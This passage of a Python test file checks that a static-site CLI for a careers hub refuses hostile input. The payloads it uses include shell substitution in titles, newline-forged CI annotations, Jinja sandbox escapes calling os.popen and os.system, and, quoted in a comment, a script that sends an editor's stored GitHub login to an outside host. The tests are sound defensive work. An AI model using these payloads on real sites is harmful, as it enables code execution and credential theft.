    source = tmp_path / "phone.jpg"
    Image.new("RGB", (40, 30), (9, 9, 9)).save(source)
    (project / "content" / "columns" / "mijn-dag.md").symlink_to(tmp_path / "x.md")
    result = _new("--photo", str(source))
    assert result.exit_code == 1 and "exists already" in result.output
    assert not (project / "content" / "images" / "people" / "jan-jansen.jpg").exists()
    assert not (tmp_path / "x.md").exists()


def test_new_prints_next_steps_that_are_safe_to_paste(project):
    """The printed git commands are meant to be pasted into a shell: a title's
    "$(...)" or quote stays text."""
    title = "Werk $(touch pwned) en \"meer\" `id` 'x'"
    args = [*NEW_ARGS]
    args[args.index("Mijn dag")] = title
    result = CliRunner().invoke(main, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    commit = next(ln for ln in result.output.splitlines() if "git commit" in ln)
    assert shlex.split(commit) == ["git", "commit", "-m", f"Story: {title}"]
    add = next(ln for ln in result.output.splitlines() if "git add" in ln)
    assert shlex.split(add)[2].startswith("content/columns/werk-")


def test_new_never_writes_into_a_folder_linked_outside(project, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.rmtree(project / "content" / "columns")
    (project / "content" / "columns").symlink_to(elsewhere)
    result = _new()
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "symlink pointing outside content/" in result.output
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize(
    "args",
    [
        ["withdraw", "x\n::error file=README.md::forged", "--yes"],
        ["tag", "content/x\n::error::forged.md"],
    ],
    ids=["withdraw-slug", "tag-path"],
)
def test_an_argument_with_a_line_break_forges_no_second_line(project, args):
    """Arguments are untrusted too: quoted back escaped, they stay on one line."""
    result = CliRunner().invoke(main, args, catch_exceptions=False)
    assert result.exit_code != 0
    lines = result.output.strip().splitlines()
    assert not any(line.startswith("::") for line in lines), result.output
    assert "forged" in result.output


def test_a_build_into_a_folder_with_a_line_break_reports_on_one_line(project, tmp_path):
    out = tmp_path / "out\n::error::forged"
    result = CliRunner().invoke(main, ["build", "-o", str(out)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert not any(line.startswith("::") for line in result.output.splitlines()), result.output


def _corrupt_exif_jpeg() -> bytes:
    """A JPEG whose EXIF says it holds 65,535 entries and holds none."""
    import io
    import struct

    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (400, 300), (90, 60, 40)).save(buf, "JPEG")
    exif = b"Exif\x00\x00II*\x00" + struct.pack("<IH", 8, 0xFFFF) + bytes(20)
    app1 = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
    return buf.getvalue()[:2] + app1 + buf.getvalue()[2:]


def test_a_photo_with_corrupt_exif_is_built_without_library_noise(project):
    # A phone or an editor that wrote broken EXIF: the photo is re-encoded without
    # it, but every step that read it printed Pillow's own "site-packages/PIL/
    # TiffImagePlugin.py:982: UserWarning: Corrupt EXIF data", eight lines that
    # named no photo, in the middle of the build's one-line messages.
    (project / "content" / "images").mkdir()
    (project / "content" / "images" / "broken.jpg").write_bytes(_corrupt_exif_jpeg())
    ben = project / "content" / "columns" / "ben-bakker.md"
    text = ben.read_text("utf-8").replace(
        "team: support", "team: support\nphoto: images/broken.jpg"
    )
    ben.write_text(text + "\n![Het team]({static}/images/broken.jpg)\n", "utf-8")
    script = "from podium_cli.cli import main\nmain(['build', '-q'], prog_name='podium')\n"
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=project, capture_output=True, text=True, timeout=600
    )
    assert done.returncode == 0, done.stderr
    noise = [line for line in (done.stdout + done.stderr).splitlines() if "Warning" in line]
    assert noise == []


def test_ctrl_c_while_waiting_for_the_output_leaves_no_cache_of_its_own(
    project, tmp_path, monkeypatch
):
    """A build whose cache folder cannot be written uses an empty one of its own in
    the temporary folder. Ctrl-C while it waited for another build into the same
    output (the lock beside it) left that folder behind, in /tmp, for every build
    stopped so: only an OSError there removed it."""
    import tempfile

    import podium_cli.build as building

    temporary = tmp_path / "tmp"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    # As root, a folder's mode does not stop a write: the build is told it does.
    monkeypatch.setattr(building, "_writable", lambda folder: False)

    def waiting(final):
        raise KeyboardInterrupt  # Ctrl-C while waiting for the other build

    monkeypatch.setattr(building, "_OutputLock", waiting)
    with pytest.raises(KeyboardInterrupt):
        building.build(project / "pelicanconf.py")
    assert list(temporary.iterdir()) == []
    assert not (project / "output").exists()


def _limited_memory() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (2_000_000_000, 2_000_000_000))


def _check_in_limited_memory(project: Path) -> subprocess.CompletedProcess[str]:
    """``podium check`` in ``project``, in a process of its own with 2 GB of memory."""
    return subprocess.run(
        [sys.executable, "-m", "podium_cli", "check"],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=_limited_memory,
    )


@pytest.mark.parametrize("planted", ["/dev/zero", "fifo"])
def test_a_hubs_own_robots_txt_planted_as_a_link_to_dev_zero_or_a_fifo_is_one_line(
    project, planted
):
    # The robots.txt check (EXTRA_PATH_METADATA) read content/extra/robots.txt with
    # read_text before the tree check said anything: a link to /dev/zero (git carries
    # it) ran the check out of memory, "podium: error: MemoryError: ", and a FIFO
    # hung podium check and the build for good.
    robots = project / "content" / "extra" / "robots.txt"
    robots.parent.mkdir()
    if planted == "fifo":
        os.mkfifo(robots)
    else:
        robots.symlink_to(planted)
    conf = project / "pelicanconf.py"
    conf.write_text(
        conf.read_text("utf-8") + 'SITEURL = "https://werkenbij.acme.nl"\n'
        'STATIC_PATHS = ["extra/robots.txt"]\n'
        'EXTRA_PATH_METADATA = {"extra/robots.txt": {"path": "robots.txt"}}\n',
        "utf-8",
    )
    checked = _check_in_limited_memory(project)
    kind = "is a FIFO (named pipe); content/ may hold only files and folders"
    said = "is a symlink that points outside content/" if planted != "fifo" else kind
    lines = (checked.stdout + checked.stderr).splitlines()
    assert checked.returncode == 1, lines
    assert f"content/extra/robots.txt: error: this entry {said}" in lines
    assert lines[-1] == "8 stories checked: 1 error, 2 warnings", lines


def _template_page(project: Path, template: str) -> None:
    """content/extra/about.html as a page of the hub's own (TEMPLATE_PAGES, README)."""
    (project / "content" / "extra").mkdir(exist_ok=True)
    (project / "content" / "extra" / "about.html").write_text(template, "utf-8")
    conf = project / "pelicanconf.py"
    conf.write_text(
        conf.read_text("utf-8") + 'TEMPLATE_PAGES = {"extra/about.html": "about/index.html"}\n',
        "utf-8",
    )


@pytest.mark.parametrize(
    "reach",
    [
        "cycler.__init__.__globals__.os.popen('touch {ran}')",
        "lipsum.__globals__['os'].system('touch {ran}')",
        "namespace.__init__.__globals__['__builtins__']['open']('{ran}', 'w')",
        "''.__class__.__mro__[1].__subclasses__()",
        "podium.cache_key.value",
        # A Path in pelicanconf.py (the test site's ROOT): the sandbox alone let
        # a template call its methods, writing and reading any file.
        "ROOT.joinpath('{ran}').write_text('x')",
        "ROOT.joinpath('pyproject.toml').read_text()",
        "render_once(ROOT.joinpath('{ran}').touch)",
        # One step into Python printed nothing and passed ("<p></p>"): the README
        # promises an error on its line for every `_` attribute.
        "SITENAME.__class__",
        "cycler.__init__",
    ],
)
def test_a_template_page_in_content_runs_no_code_and_reads_no_secret(
    project, tmp_path, cache_key, reach
):
    # A hub with a page of its own (README: TEMPLATE_PAGES with a template in
    # content/) rendered it in Pelican's plain Jinja environment: a pull request's
    # "{{ cycler.__init__.__globals__.os.popen('id').read() }}" in that file ran
    # `id` in the publish build and put "uid=1001(runner) ..." on the hub, and
    # "{{ podium.cache_key.value }}" published PODIUM_CACHE_KEY.
    ran = tmp_path / "ran"
    _template_page(project, "<p>{{ " + reach.format(ran=ran) + " }}</p>\n")
    result = _build()
    assert not ran.exists()
    assert result.exit_code == 1, result.output
    (line,) = [x for x in result.output.splitlines() if "extra/about.html" in x]
    assert line.startswith("content/extra/about.html:1: error: template: SecurityError: "), line
    assert cache_key not in result.output
    assert not (project / "output" / "about").exists()


def test_a_template_page_in_content_still_renders_the_hubs_data(project):
    _template_page(
        project,
        "<h1>{{ SITENAME }}</h1><ul>{% for a in articles|sort(attribute='slug') %}"
        "<li>{{ a.title|upper }}</li>{% endfor %}</ul>\n",
    )
    result = _build()
    assert result.exit_code == 0, result.output
    page = (project / "output" / "about" / "index.html").read_text("utf-8")
    assert page.startswith("<h1>Werken bij Testbedrijf</h1><ul><li>")


def test_a_file_hard_linked_from_outside_content_is_refused_one_hard_linked_inside_is_not(
    project, tmp_path
):
    # git carries no hard links, but whoever shares the machine may make one: on a
    # shared checkout (or macOS, which has no protected_hardlinks) another user's
    # photo linked in as content/images/team.jpg was published as the story's
    # image, re-encoded, a file from outside content/ on the hub, where a symlink
    # to it is refused.
    private = tmp_path / "home-of-another" / "paspoort.jpg"
    private.parent.mkdir()
    private.write_bytes(boundary.gps_jpeg_bytes())
    images = project / "content" / "images"
    images.mkdir()
    os.link(private, images / "team.jpg")
    os.link(images / "team.jpg", images / "team-too.jpg")  # a third name, in content/
    column = project / "content" / "columns" / "ben-bakker.md"
    column.write_text(column.read_text("utf-8") + "\n![Team]({static}/images/team.jpg)\n", "utf-8")
    result = _build()
    assert result.exit_code == 1, result.output
    said = [line for line in result.output.splitlines() if "hard link" in line]
    reason = (
        "is a hard link: the same file has 1 of its 3 names outside content/, and no file "
        "from outside content/ is published; make it a copy of its own (cp it to a new "
        "name, then move that over it)"
    )
    assert said == [
        f"content/columns/ben-bakker.md:16: error: link to content/images/team.jpg: the file "
        f"{reason}",
        f"content/images/team-too.jpg: error: this entry {reason}",
    ]
    assert not (project / "output").exists()
    # Hard-linked within content/ only (a photo under two names): built as any file.
    os.unlink(private)
    assert _build().exit_code == 0
    assert (project / "output" / "media" / "images" / "team.jpg").is_file()


@pytest.mark.parametrize(
    "name",
    # schema.xsd, logo.svgz, service.wsdl and app.es too: the hosts serve them as
    # application/xml, image/svg+xml and application/ecmascript (mime-db; Python's
    # mimetypes under podium serve), which run a script as .xml, .svg and .js do.
    [
        "inlog.html",
        "x.xhtml",
        "app.js",
        "feed.xsl",
        "schema.xsd",
        "logo.svgz",
        "service.wsdl",
        "app.es",
    ],
)
def test_a_page_or_script_in_a_static_folder_is_published_only_when_named(project, name):
    # STATIC_PATHS = ["brand", "extra"] copied whatever a pull request put in
    # content/extra/ as it is: extra/inlog.html, "<script>fetch('//x/?' +
    # localStorage['decap-cms-user'])</script>", was served on the hub's own
    # address, where the editor (/admin/) keeps the writer's GitHub login; brand/
    # refused such files since 5495b0aa, the other static folders did not.
    conf = project / "pelicanconf.py"
    base = conf.read_text("utf-8") + 'STATIC_PATHS = ["brand", "extra"]\n'
    conf.write_text(base, "utf-8")
    (project / "content" / "extra").mkdir()
    (project / "content" / "extra" / name).write_text("<script>alert(1)</script>\n", "utf-8")
    (project / "content" / "extra" / "CNAME").write_text("werkenbij.example.nl\n", "utf-8")
    result = _build()
    assert result.exit_code == 1, result.output
    assert result.output.splitlines() == [
        f"content/extra/{name}: error: static file is a page or script a browser runs on the "
        "hub's own address, where the editor keeps the writer's login, and a folder of "
        "STATIC_PATHS takes whatever a pull request adds to it: name it in STATIC_PATHS by "
        f'itself ("extra/{name}") if the hub means to publish it'
    ]
    # Named by itself (or given a path of its own), it is the settings' choice.
    conf.write_text(base.replace('"extra"]', f'"extra", "extra/{name}"]'), "utf-8")
    assert _build().exit_code == 0
    assert (project / "output" / "extra" / name).is_file()
    assert (project / "output" / "extra" / "CNAME").is_file()


def test_podium_check_says_what_the_build_refuses_in_a_static_folder(project):
    # The build's gate refused a page, a script, an SVG with a script and a GIF
    # in a STATIC_PATHS folder; podium check ran no gate and passed them, exit 0,
    # so a pull request's check passed and the merge's build failed.
    conf = project / "pelicanconf.py"
    conf.write_text(conf.read_text("utf-8") + 'STATIC_PATHS = ["brand", "extra"]\n', "utf-8")
    extra = project / "content" / "extra"
    extra.mkdir()
    (extra / "inlog.html").write_text("<script>alert(1)</script>\n", "utf-8")
    (extra / "x.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "utf-8"
    )
    Image.new("RGB", (4, 4)).save(extra / "team.gif")
    (extra / "CNAME").write_text("werkenbij.example.nl\n", "utf-8")
    expected = [
        "content/extra/inlog.html: error: static file is a page or script a browser runs on "
        "the hub's own address, where the editor keeps the writer's login, and a folder of "
        "STATIC_PATHS takes whatever a pull request adds to it: name it in STATIC_PATHS by "
        'itself ("extra/inlog.html") if the hub means to publish it',
        "content/extra/team.gif: error: static file is a GIF image, which would be published "
        "as it is, with any EXIF, GPS or XMP data it holds; save it as .jpg, .png or .webp, "
        "which are published re-encoded without metadata",
        "content/extra/x.svg: error: static file is an SVG with a <script> element; only "
        "drawing elements are allowed",
    ]
    checked = _check()
    assert checked.exit_code == 1, checked.output
    assert sorted(x for x in checked.output.splitlines() if ": error: " in x) == expected
    built = _build()
    assert built.exit_code == 1, built.output
    assert sorted(built.output.splitlines()) == expected


def test_a_template_page_linked_to_a_huge_file_outside_is_not_read(project, tmp_path):
    # The TEMPLATE_PAGES check of the settings read content/extra/about.html with
    # an unbounded read_text, before the tree check said anything: a link to a
    # 400 MB file outside cost 880 MB and 22 s of podium check; a sparse 4 GB one,
    # under this memory limit, ended it in "podium: error: MemoryError: ".
    huge = tmp_path / "huge.html"
    with huge.open("wb") as f:
        f.truncate(4 * 1024**3)
    (project / "content" / "extra").mkdir()
    (project / "content" / "extra" / "about.html").symlink_to(huge)
    conf = project / "pelicanconf.py"
    conf.write_text(
        conf.read_text("utf-8") + 'TEMPLATE_PAGES = {"extra/about.html": "about/index.html"}\n',
        "utf-8",
    )
    checked = _check_in_limited_memory(project)
    lines = (checked.stdout + checked.stderr).splitlines()
    assert checked.returncode == 1, lines
    errors = [x for x in lines if ": error: " in x]
    assert errors == [
        "content/extra/about.html: error: this entry is a symlink that points outside content/"
    ]
    # One of its own, over the bound, is said on the setting's line.
    (project / "content" / "extra" / "about.html").unlink()
    (project / "content" / "extra" / "about.html").write_text("x" * 1_000_001, "utf-8")
    checked = _check()
    assert checked.exit_code == 1
    assert re.search(
        r"^pelicanconf\.py:\d+: error: setting TEMPLATE_PAGES\['extra/about\.html'\] names a "
        r"template that is larger than 1\.0 MB, the most a template page may be$",
        checked.output,
        re.M,
    ), checked.output


def test_a_page_pelican_leaves_out_of_a_static_folder_is_not_refused(project):
    # What STATIC_EXCLUDES or IGNORE_FILES leave out, Pelican never copies: the
    # check of the static folders refused content/extra/drafts/inlog.html all
    # the same, where the build it speaks for would publish nothing of it.
    _settings(
        project,
        'STATIC_PATHS = ["brand", "extra"]\n'
        'STATIC_EXCLUDES = ["extra/drafts"]\nIGNORE_FILES = ["**/.*", ".*", "*.bak"]\n',
    )
    (project / "content" / "extra" / "drafts").mkdir(parents=True)
    (project / "content" / "extra" / "drafts" / "inlog.html").write_text("<script>", "utf-8")
    (project / "content" / "extra" / "app.js.bak").write_text("<script>", "utf-8")
    (project / "content" / "extra" / "CNAME").write_text("werkenbij.example.nl\n", "utf-8")
    checked = _check()
    assert checked.exit_code == 0, checked.output
    assert _build().exit_code == 0
    assert (project / "output" / "extra" / "CNAME").is_file()
    assert not (project / "output" / "extra" / "drafts").exists()


def test_stories_pelican_leaves_out_are_neither_checked_nor_published(project):
    # ARTICLE_EXCLUDES (the settings' example: folders in content/, like
    # ["drafts"]) and IGNORE_FILES (their example: ".*" or "*.bak") keep files out
    # of the build; podium check read them all the same: a half-written draft with
    # no title stopped the build that would never publish it, and a drafts folder
    # or a .bak beside a story were told to move or be renamed.
    _settings(
        project,
        'ARTICLE_EXCLUDES = ["interviews/drafts", "drafts"]\n'
        'IGNORE_FILES = ["**/.*", ".*", "wip", "*.bak"]\n',
    )
    content = project / "content"
    story = next((content / "interviews").glob("*.md"))
    untitled = "".join(
        line for line in story.read_text("utf-8").splitlines(True) if not line.startswith("title:")
    )
    for folder in ("interviews/drafts", "interviews/wip", "drafts"):
        (content / folder).mkdir(parents=True)
        (content / folder / "half-af.md").write_text(untitled, "utf-8")
    (content / "interviews" / f"{story.name}.bak").write_text(untitled, "utf-8")
    checked = _check()
    assert checked.exit_code == 0, checked.output
    assert "half-af" not in checked.output and ".bak" not in checked.output, checked.output
    assert _build().exit_code == 0
    assert not (project / "output" / "stories" / "half-af").exists()
    # Leaving out a whole story folder is refused, on the setting's line.
    _settings(project, 'ARTICLE_EXCLUDES = ["./columns"]\n')
    checked = _check()
    assert checked.exit_code == 1
    assert re.search(
        r'^pelicanconf\.py:\d+: error: setting ARTICLE_EXCLUDES has "columns", a story folder, '
        r"so the build would publish none of its stories; exclude a folder inside it, like "
        r'"interviews/drafts"$',
        checked.output,
        re.M,
    ), checked.output


@pytest.mark.parametrize("attachments", [True, False])
def test_a_pdf_in_a_static_folder_is_published_without_its_metadata(project, attachments):
    # A story's linked PDF was published without its author and the folders in
    # it; the same brochure in brand/ (which may hold PODIUM_ATTACHMENTS' types)
    # or in another STATIC_PATHS folder was copied byte for byte, author and all.
    extra = 'PODIUM_ATTACHMENTS = ["pdf"]\n' if attachments else ""
    _settings(project, extra + 'STATIC_PATHS = ["brand", "downloads"]\n')
    brochure = boundary.pdf_with_metadata()
    places = ["downloads/plan.pdf", *(["brand/brochure.pdf"] if attachments else [])]
    for rel in places:
        (project / "content" / rel).parent.mkdir(parents=True, exist_ok=True)
        (project / "content" / rel).write_bytes(brochure)
    checked = _check()
    assert checked.exit_code == 0, checked.output
    assert _build().exit_code == 0
    for rel in places:
        published = (project / "output" / rel).read_bytes()
        assert published.startswith(b"%PDF-") and b"/MediaBox" in published, rel
        for said in (b"Verlopen", b"fverlopen", b"/Author", b"xmpmeta", b"PodiumTestCamera"):
            assert said not in published, (rel, said)


def test_what_a_hub_keeps_out_of_brand_is_not_checked_as_published(project):
    # STATIC_EXCLUDES = ["brand/originals"] is the settings' own example, and the
    # build copies nothing of it; yet podium check (and so the build) refused
    # the designer's logo.psd and a draft SVG kept there as brand files "not
    # published". What is published from brand/ is still held to the rules.
    _settings(
        project, 'STATIC_EXCLUDES = ["brand/originals"]\nIGNORE_FILES = ["**/.*", ".*", "*.bak"]\n'
    )
    originals = project / "content" / "brand" / "originals"
    originals.mkdir(parents=True)
    (originals / "logo.psd").write_bytes(b"8BPS\x00\x01")
    (originals / "draft.svg").write_text("<svg><script>alert(1)</script></svg>", "utf-8")
    (project / "content" / "brand" / "logo.svg.bak").write_text("<script>", "utf-8")
    checked = _check()
    assert checked.exit_code == 0, checked.output
    assert _build().exit_code == 0
    assert not (project / "output" / "brand" / "originals").exists()
    assert not (project / "output" / "brand" / "logo.svg.bak").exists()
    # The same files outside the excluded folder are refused, each on one line.
    shutil.move(originals / "draft.svg", project / "content" / "brand" / "draft.svg")
    checked = _check()
    assert checked.exit_code == 1
    assert "content/brand/draft.svg: error: brand file is an SVG with a <script> element" in (
        checked.output
    ), checked.output
